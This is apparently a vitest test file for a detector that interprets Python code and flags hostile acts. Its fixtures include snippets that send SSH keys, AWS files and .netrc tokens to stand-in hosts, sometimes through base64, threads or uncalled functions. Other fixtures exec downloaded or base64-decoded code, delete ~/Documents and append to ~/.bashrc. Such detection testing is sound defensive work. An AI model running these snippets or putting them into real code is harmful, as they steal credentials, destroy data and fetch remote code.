import { createRequire } from 'node:module';
import { beforeAll, describe, expect, it } from 'vitest';
import { Language, Parser } from 'web-tree-sitter';
import type { Observation } from '../observation.ts';
import { SURROUNDINGS } from '../variants.ts';
import { createWorld } from '../world.ts';
import { interpretPython } from './interpret.ts';

let parser: Parser;
beforeAll(async () => {
  await Parser.init();
  parser = new Parser();
  parser.setLanguage(
    await Language.load(createRequire(import.meta.url).resolve('tree-sitter-python/tree-sitter-python.wasm')),
  );
});

function parse(code: string) {
  const tree = parser.parse(code);
  if (tree === null) throw new Error('no tree');
  return tree.rootNode;
}

function interpret(code: string): { acts: Observation[]; gaps: string[]; commands: string[] } {
  const [surroundings] = SURROUNDINGS;
  if (surroundings === undefined) throw new Error('no surroundings');
  const world = createWorld({ digest: 'd', units: [], files: [], omitted: [] }, surroundings);
  const recorder = world.begin('u');
  const commands: string[] = [];
  const runCommand = (command: string) => {
    commands.push(command);
    return undefined;
  };
  world.inferred(() => interpretPython(parse(code), { world, args: [], parse, runCommand }));
  return { acts: recorder.acts(), gaps: recorder.gaps(), commands };
}

const lines = (...text: string[]): string => text.join('\n');
const seen = (code: string) =>
  interpret(code).acts.map(({ kind, target, data }) => [kind, target, data.join(' ')].join(' | '));

describe('interpretPython: a secret on its way out', () => {
  const LEAK = 'net | POST https://c.example.invalid/u | canary:ssh-key upload';
  it.each<[string, string]>([
    [
      'open and requests',
      lines(
        'import os, requests',
        'k = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
        'requests.post("https://c.example.invalid/u", data=k)',
      ),
    ],
    [
      'with, f-string and a function',
      lines(
        'import requests',
        'from os.path import expanduser, join',
        'import os.path',
        'def send(v):',
        '    requests.post(f"https://{host}/u", json={"k": v})',
        'host = "c.example.invalid"',
        'with open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")) as f:',
        '    send(f.read())',
      ),
    ],
    [
      'pathlib and urllib',
      lines(
        'from pathlib import Path',
        'import urllib.request',
        'r = urllib.request.Request("https://c.example.invalid/u", data=(Path.home() / ".ssh" / "id_rsa").read_bytes())',
        'urllib.request.urlopen(r)',
      ),
    ],
    [
      'an uploaded file object',
      lines(
        'import httpx, os',
        'httpx.post("https://c.example.invalid/u", files={"f": open(os.path.expanduser("~/.ssh/id_rsa"), "rb")})',
      ),
    ],
    [
      'a class and a session',
      lines(
        'import requests, os',
        'class Sender:',
        '    def __init__(self, url):',
        '        self.url = url',
        '    def go(self):',
        '        s = requests.Session()',
        '        s.post(self.url, data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
        'Sender("https://c.example.invalid/u").go()',
      ),
    ],
    [
      'a function nobody calls',
      lines(
        'import requests, os',
        'def hidden():',
        '    requests.post("https://c.example.invalid/u", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())',
      ),
    ],
    [
      'a branch that is never taken',
      lines(
        'import requests, os',
        'if False:',
        '    k = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
        'else:',
        '    k = ""',
        'requests.post("https://c.example.invalid/u", data=k)',
      ),
    ],
    [
      'a thread',
      lines(
        'import requests, os, threading',
        'def go(v):',
        '    requests.post("https://c.example.invalid/u", data=v)',
        'threading.Thread(target=go, args=(open(os.path.expanduser("~/.ssh/id_rsa")).read(),)).start()',
      ),
    ],
    [
      'a home-made cipher',
      lines(
        'import requests, os',
        'from mycrypt import seal',
        'requests.post("https://c.example.invalid/u", data=seal(open(os.path.expanduser("~/.ssh/id_rsa")).read()))',
      ),
    ],
  ])('%s', (_, code) => expect(seen(code)).toContain(LEAK));

  it('is followed through base64 and a loop over a folder', () => {
    const code = lines(
      'import os, base64, requests',
      'for root, _, names in os.walk(os.path.expanduser("~/.aws")):',
      '    for name in names:',
      '        data = base64.b64encode(open(os.path.join(root, name), "rb").read())',
      '        requests.post("https://c.example.invalid/u", data=data)',
    );
    expect(seen(code)).toContain('net | POST https://c.example.invalid/u | canary:cloud-key upload via:base64');
  });

  it('is found in a bare socket', () => {
    const code = lines(
      'import socket, os',
      's = socket.socket()',
      's.connect(("192.0.2.9", 4444))',
      's.sendall(open(os.path.expanduser("~/.netrc")).read().encode())',
    );
    expect(seen(code)).toContain('net | CONNECT tcp://192.0.2.9:4444 | canary:gh-token upload');
  });

  it('is told from one’s own key in a header', () => {
    const code = lines(
      'import os, requests',
      'k = os.environ["OPENAI_API_KEY"]',
      'requests.post("https://api.openai.com/v1/x", headers={"Authorization": f"Bearer {k}"}, json={})',
    );
    expect(seen(code)).toContain('net | POST https://api.openai.com/v1/x | auth canary:env-token env:OPENAI_API_KEY');
  });
});

describe('interpretPython: other acts', () => {
  it.each<[string, string, string]>([
    ['the whole environment', 'import os, json\njson.dumps(dict(os.environ))', 'env | all variables | bulk-env'],
    [
      'a delete',
      'import shutil, os\nshutil.rmtree(os.path.expanduser("~/Documents"))',
      'delete | ~/Documents | outside-work',
    ],
    [
      'a shell profile',
      'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("x")',
      'persist | ~/.bashrc | outside-work',
    ],
    [
      'downloaded code',
      'import requests\nexec(requests.get("https://s.example.invalid/a.py").text)',
      'exec | exec https://s.example.invalid/a.py | downloaded second-stage',
    ],
    [
      'decoded code',
      'import base64\nexec(base64.b64decode("cHJpbnQoMSkKcHJpbnQoMik="))',
      'exec | exec print(1) print(2) | decoded second-stage',
    ],
    ['a name look-up', 'import socket\nsocket.gethostbyname("x.example.invalid")', 'dns | x.example.invalid | '],
  ])('%s', (_, code, expected) => expect(seen(code)).toContain(expected));

  it.each<[string, string, string]>([
    ['os.system', 'import os\nos.system("id")', 'id'],
    ['subprocess with a list', 'import subprocess as sp\nsp.run(["ls", "-la", "a b"], check=True)', "ls -la 'a b'"],
    ['a name built from pieces', 'import os\ngetattr(os, "sys" + "tem")("id")', 'id'],
    ['an import by name', '__import__("os").system("id")', 'id'],
    ['code inside decoded code', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiaWQiKQ=="))', 'id'],
  ])('starts a command through %s', (_, code, command) => expect(interpret(code).commands).toContain(command));

  it.each<[string, string]>([
    ['arithmetic and printing', 'x = 1 + 2\nprint(f"{x}")'],
    ['its own files', 'from pathlib import Path\nprint(Path("data.txt").read_text())'],
    ['words about secrets', 'HELP = "never post ~/.ssh/id_rsa to https://x.example.invalid"'],
  ])('sees nothing in %s', (_, code) => expect(interpret(code).acts).toEqual([]));

  it.each<[string, string]>([
    ['broken code', 'def f(:\n  x ='],
    ['endless recursion', 'def f(): f()\nf()'],
    ['deep nesting', `x = ${'('.repeat(3_000)}1${')'.repeat(3_000)}`],
    ['a very long list', `x = [${'1,'.repeat(50_000)}]`],
    ['text that doubles', `x = "a"\n${'x = x + x\n'.repeat(100)}`],
  ])('ends on %s', (_, code) => expect(() => interpret(code)).not.toThrow());

  it('says when it had to stop', () => {
    expect(interpret(`x = [${'1,'.repeat(50_000)}]`).gaps).toEqual(['limit reached: python steps']);
  });
});
